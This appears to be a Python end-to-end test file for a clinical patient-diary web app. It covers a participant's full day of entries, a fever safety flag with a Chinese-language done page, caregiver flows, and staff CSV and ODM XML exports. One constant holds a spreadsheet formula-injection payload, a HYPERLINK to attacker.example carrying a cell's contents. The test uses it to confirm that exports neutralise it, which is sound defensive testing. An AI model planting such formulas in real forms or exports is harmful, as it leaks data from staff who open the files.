"""A person's day on the real server: sign in, every screen, send, sign out; staff export it."""

import csv
import io
import re
from datetime import UTC, datetime
from xml.etree import ElementTree

from sqlalchemy import select

from diary.models import DiaryEntry, Flag, Participant
from diary.rules import answers as reading
from diary.rules import schedule
from diary.services.diary import screens
from tests.live.conftest import sign_in
from tests.support.staff import full_answers

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
ODM = "{http://www.cdisc.org/ns/odm/v1.3}"


def _plan(live_server, participant_id):
    """Today's screens and a full set of answers, with a spreadsheet formula as a medicine."""
    with live_server.database() as session:
        participant = session.get(Participant, participant_id)
        today = schedule.local_today(datetime.now(UTC), participant.timezone)
        sections = screens.sections(participant, today, schedule.WindowRules())
        answers = {**full_answers(participant, today), "M2": "yes", "M2_DRUGS": "other",
                   "M2_OTHER": FORMULA}
    return today, sections, answers


def _whole_day(browser, today, sections, answers):
    """Every screen answered and the day sent, as the phone does it: the done page's text."""
    url = f"/diary/{today.isoformat()}/{sections[0].id}"
    for section in sections:
        assert browser.get(url).status_code == 200, url
        mine = {i.id for i in section.items}
        pairs = [(k, v) for k, v in reading.as_form_pairs(answers) if k in mine]
        sent = browser.post(url, data=[("csrf_token", browser.csrf()), *pairs])
        assert sent.status_code == 302, (url, sent.text[-2000:])
        url = sent.headers["Location"]
    assert url.endswith(f"/diary/{today.isoformat()}/review")
    review = browser.get(url)
    token, base = (_hidden(review.text, name) for name in ("token", "base"))
    sent = browser.submit(url, {"token": token, "base": base})
    assert sent.headers["Location"].endswith(f"/diary/{today.isoformat()}/done")
    done = browser.get(sent.headers["Location"])
    assert done.status_code == 200
    return done.text


def test_sign_in_a_whole_day_sign_out_and_the_export_shows_it_harmless(live_server, cast):
    today, sections, answers = _plan(live_server, cast.participant_id)
    browser = sign_in(live_server, "participant")
    assert browser.get("/").status_code == 200
    done = _whole_day(browser, today, sections, answers)
    assert 'class="told"' not in done  # nothing for the team to look at

    with live_server.database() as session:
        entry = session.scalar(select(DiaryEntry).where(
            DiaryEntry.participant_id == cast.participant_id, DiaryEntry.diary_date == today))
        assert entry.answer_map()["M2_OTHER"] == FORMULA
        assert entry.status.value in ("on_time", "late")

    out = browser.submit("/logout")
    assert (out.status_code, out.headers["Location"]) == (302, "/login"), out.text[-3000:]
    assert browser.get("/").headers["Location"].startswith("/login")
    _exported_harmless(live_server)


def test_a_day_with_a_fever_says_on_the_done_page_that_the_team_will_look(live_server, cast):
    """A fever of 38.5 °C is a same-day cause, not an emergency: the day is sent as usual and
    its done page says the team will look, that nobody watches around the clock, and offers
    120 (in the participant's Chinese)."""
    today, sections, answers = _plan(live_server, cast.participant_id)
    browser = sign_in(live_server, "participant")
    done = _whole_day(browser, today, sections, {**answers, "E2": "38.5"})
    assert 'class="told"' in done
    assert 'href="tel:120"' in done
    assert "您的部分回答已转给研究团队查看" in done
    with live_server.database() as session:
        kinds = session.scalars(select(Flag.kind).where(
            Flag.participant_id == cast.participant_id)).all()
    assert [k.value for k in kinds] == ["safety_same_day"]


def _hidden(page: str, name: str) -> str:
    return re.search(rf'name="{name}" value="([^"]*)"', page).group(1)


def _exported_harmless(live_server) -> None:
    """What the participant typed reaches the CSV as text, never as a live formula."""
    staff = sign_in(live_server, "coordinator")
    staff.get("/staff/exports")
    items = staff.submit("/staff/exports/items.csv")
    assert items.status_code == 200
    rows = list(csv.DictReader(io.StringIO(items.content.decode("utf-8-sig"))))
    typed = [r["value"] for r in rows if r["item_id"] == "M2_OTHER"]
    assert typed == ["'" + FORMULA]
    odm = staff.submit("/staff/exports/odm.xml")
    root = ElementTree.fromstring(odm.content)  # noqa: S314 - our own output
    values = {i.get("Value") for i in root.iter(f"{ODM}ItemData")
              if i.get("ItemOID") == "I.M2_OTHER"}
    assert values == {FORMULA}  # the EDC gets the text as typed: XML is not a spreadsheet


def test_a_caregiver_who_leaves_questions_keeps_every_tap_and_is_led_back(live_server, cast):
    """The cared-for participant's today is open: a screen sent with one answer comes back
    with the summary and keeps the tap; sending the day leads to the unanswered questions;
    signing out from an English-preferring browser keeps the caregiver's Chinese."""
    with live_server.database() as session:
        cared_for = session.get(Participant, cast.cared_for_id)
        day = schedule.local_today(datetime.now(UTC), cared_for.timezone).isoformat()
    browser = sign_in(live_server, "caregiver")
    browser.get(f"/diary/{day}/symptoms")
    back = browser.submit(f"/diary/{day}/symptoms", {"S1": "1", "action": "next"})
    assert back.status_code == 200
    assert 'id="error-summary"' in back.text
    browser.get("/")
    assert 'name="S1" value="1" checked' in browser.get(f"/diary/{day}/symptoms").text

    browser.get(f"/diary/{day}/review")
    token, base = (_hidden(browser.page, name) for name in ("token", "base"))
    sent = browser.submit(f"/diary/{day}/review", {"token": token, "base": base})
    assert "missing=1" in sent.headers["Location"], sent.headers
    led = browser.get(sent.headers["Location"])
    assert 'id="error-summary"' in led.text
    assert 'href="#q-' in led.text

    english = {"Accept-Language": "en-US,en;q=0.9"}
    assert browser.submit("/logout", headers=english).status_code == 302
    assert '<html lang="zh-CN">' in browser.get("/login", headers=english).text
